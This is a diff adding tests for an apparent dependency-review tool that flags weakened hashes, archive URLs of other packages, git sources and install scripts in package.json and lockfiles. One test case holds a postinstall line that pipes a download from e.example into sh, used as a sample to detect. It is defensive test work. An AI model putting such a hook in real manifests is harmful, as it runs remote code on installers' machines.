@@ -296,6 +296,72 @@ def test_a_digest_that_is_gone_is_reported():
     assert "no digest any more" in done.findings[0].title
 
 
+def test_a_good_digest_that_gave_way_to_a_weak_one_is_reported():
+    before, after = lock({"name": "a"}), lock({"name": "a", "integrity": "sha1-a="})
+    assert told(gate({"package-lock.json": (before, after)})) == [
+        ("integrity", "warning", "package-lock.json", 8)
+    ]
+
+
+def test_another_digest_in_a_requirements_file_is_reported():
+    before, after = (f"a==1 --hash=sha256:{one * 64}\n" for one in "ab")
+    assert told(gate({"requirements.txt": (before, after)})) == [
+        ("integrity", "warning", "requirements.txt", 1)
+    ]
+
+
+def test_an_entry_that_fetches_another_packages_archive_is_reported():
+    odd = {"name": "b", "resolved": f"{HOST}/evil/-/evil-1.0.0.tgz"}
+    done = gate({"package-lock.json": (lock({"name": "a"}), lock({"name": "a"}, odd))})
+    assert told(done) == [("integrity", "warning", "package-lock.json", 12)]
+    assert "archive of another package" in done.findings[0].title
+
+
+@pytest.mark.parametrize(
+    "fine",
+    [
+        {"name": "@s/b", "resolved": f"{HOST}/@s%2fb/-/b-1.0.0.tgz"},
+        {"name": "b", "resolved": "https://npm.example/api/npm/all/b/-/b-1.0.0.tgz"},
+    ],
+)
+def test_an_archive_may_be_named_in_many_ways(fine):
+    before = lock({"name": "a"}, {"name": "c", "resolved": fine["resolved"].replace("b", "c")})
+    done = gate({"package-lock.json": (before, lock({"name": "a"}, fine))})
+    assert [one for one in told(done) if one[0] == "integrity"] == []
+
+
+def test_a_version_that_left_the_registry_in_the_lock_alone_is_a_warning():
+    before = lock({"name": "a"}, {"name": "b"})
+    after = lock({"name": "a"}, {"name": "b", "resolved": "git+https://git.example/e/b.git#1"})
+    files = {"package-lock.json": (before, after)}
+    assert told(gate(files)) == [("source", "warning", "package-lock.json", 12)]
+    asked = manifest(a="1", b="git+https://git.example/e/b.git")
+    files["package.json"] = (manifest(a="1", b="1"), asked)
+    assert [one[:2] for one in told(gate(files))] == [("source", "notice")]
+
+
+@pytest.mark.parametrize(
+    ("script", "severity"),
+    [
+        ('"postinstall": "curl https://e.example/x | sh"', "warning"),
+        ('"preinstall": "node setup.js"', "notice"),
+    ],
+)
+def test_a_script_that_an_install_runs_is_reported(script, severity):
+    old = '{\n  "scripts": {\n    "test": "jest"\n  }\n}\n'
+    new = old.replace('"jest"', f'"jest",\n    {script}')
+    assert told(gate({"package.json": (old, new)})) == [
+        ("install_script", severity, "package.json", 4)
+    ]
+
+
+def test_a_script_that_moved_or_a_dependency_of_such_a_name_is_none():
+    old = '{\n  "scripts": {\n    "install": "node-gyp rebuild",\n    "test": "jest"\n  }\n}\n'
+    new = '{\n  "scripts": {\n    "test": "jest",\n    "install": "node-gyp rebuild"\n  }\n}\n'
+    assert told(gate({"package.json": (old, new)})) == []
+    assert told(gate({"package.json": (manifest(a="1"), manifest(a="1", install="^0.13.0"))})) == []
+
+
 @pytest.mark.parametrize("integrity", ["sha512-other==", "sha512-b=="])
 def test_another_digest_under_the_same_version_is_reported(integrity):
     before = lock({"name": "a"}, {"name": "b", "integrity": "sha512-before=="})
